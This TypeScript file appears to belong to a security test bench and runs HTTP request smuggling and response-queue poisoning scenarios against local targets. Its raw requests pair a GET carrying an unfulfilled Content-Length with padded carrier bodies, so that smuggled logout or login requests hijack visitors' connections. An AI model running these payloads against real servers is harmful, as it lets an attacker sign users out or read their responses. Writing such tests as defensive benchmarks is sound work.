import { ATTACKER, type Outcome, sendRaw, signIn, type Targets, VISITOR } from "@/bench/attack/scenarios/scenario";
import { send } from "@/bench/attack/wire/request";

const ROUNDS = 12;
/** More than the head of the attacker's second request, but less than that plus the blank lines after it. */
const SWALLOWED_BYTES = 450;
const BLANK = "\r\n".repeat(250);
const INNER = "GET /api/status HTTP/1.1\r\nHost: x\r\n\r\n";

/** A GET whose body never arrives, so that what follows on the same upstream connection is read as its body. */
const OPENER = `GET /api/status HTTP/1.1\r\nHost: x\r\nContent-Length: ${SWALLOWED_BYTES}\r\n\r\n${"x".repeat(SWALLOWED_BYTES)}`;

const carrier = (body: string) =>
  `POST /api/none HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

/** A request in a body becomes the beginning of a visitor's request: does it sign the visitor out? */
export async function smuggle(targets: Targets): Promise<Outcome> {
  const { web, api } = targets;
  let signedOut = 0;
  let failed = 0;
  for (let round = 0; round < ROUNDS; round++) {
    const { cookie } = await signIn(targets, "listener", `127.0.10.${round + 1}`);
    await sendRaw(web, OPENER, 150);
    await sendRaw(web, carrier(`${BLANK}${INNER}POST /api/auth/logout HTTP/1.1\r\nHost: x\r\nX: `), 150);
    const mine = await send(web, "/api/auth/user", { headers: { cookie }, from: VISITOR, timeoutMs: 2_000 });
    if (mine?.status !== 200) failed += 1;
    if ((await send(api, "/api/auth/user", { headers: { cookie } }))?.status !== 200) signedOut += 1;
  }
  return {
    held: signedOut + failed === 0,
    figures: `${signedOut} of ${ROUNDS} signed out, ${failed} without their response`,
  };
}

/** A second response is left on a connection: does a visitor get it, and the attacker the visitor's? */
export async function queue(targets: Targets): Promise<Outcome> {
  const { web } = targets;
  const { cookie, email } = await signIn(targets, "listener");
  const guess = JSON.stringify({ email: "nobody@wavecrate.test", password: "not the password" });
  const late = `POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${guess.length}\r\n\r\n${guess}`;
  let shifted = 0;
  let stolen = 0;
  for (let round = 0; round < ROUNDS; round++) {
    await sendRaw(web, OPENER, 100);
    const carried = sendRaw(web, carrier(`${BLANK}${INNER}${late}`), 400);
    await new Promise((resolve) => setTimeout(resolve, 8));
    const mine = await send(web, "/api/auth/user", { headers: { cookie }, from: VISITOR, timeoutMs: 2_000 });
    if (!mine?.body.includes(email)) shifted += 1;
    const theirs = await send(web, "/api/status", { from: ATTACKER, timeoutMs: 2_000 });
    if (theirs?.body.includes(email) || (await carried).includes(email)) stolen += 1;
  }
  return {
    held: shifted + stolen === 0,
    figures: `${shifted} of ${ROUNDS} visitors got another response, ${stolen} read by the attacker`,
  };
}

/** Not an attack: three GETs with nine octets each, then eight clean ones by other clients. */
export async function plainBody({ web }: Targets): Promise<Outcome> {
  let failed = 0;
  for (let round = 0; round < ROUNDS; round++) {
    for (let sent = 0; sent < 3; sent++) {
      await send(web, "/api/status", {
        headers: { "Content-Length": 9 },
        body: "xxxxxxxxx",
        from: ATTACKER,
        timeoutMs: 2_000,
      });
    }
    for (let attempt = 0; attempt < 8; attempt++) {
      const response = await send(web, "/api/status", { from: VISITOR, timeoutMs: 2_000 });
      if (response?.status !== 200) failed += 1;
    }
  }
  return { held: failed === 0, figures: `${failed} of ${ROUNDS * 8} clean requests without a 200` };
}

/** The same with pages: a page that is requested with a body must not hang for the next visitors. */
export async function hang({ web }: Targets): Promise<Outcome> {
  let hanging = 0;
  const rounds = 6;
  for (let round = 0; round < rounds; round++) {
    const path = `/samples?search=frozen${round}`;
    const opener = `GET ${path}x HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n`;
    await Promise.all([sendRaw(web, opener, 400), sendRaw(web, opener, 400)]);
    void sendRaw(web, `GET ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n`, 4_000);
    await new Promise((resolve) => setTimeout(resolve, 30));
    const responses = await Promise.all([1, 2, 3, 4].map(() => send(web, path, { from: VISITOR, timeoutMs: 5_000 })));
    hanging += responses.filter((response) => response?.status !== 200).length;
  }
  return { held: hanging === 0, figures: `${hanging} of ${rounds * 4} visitors of that page not served within 5 s` };
}
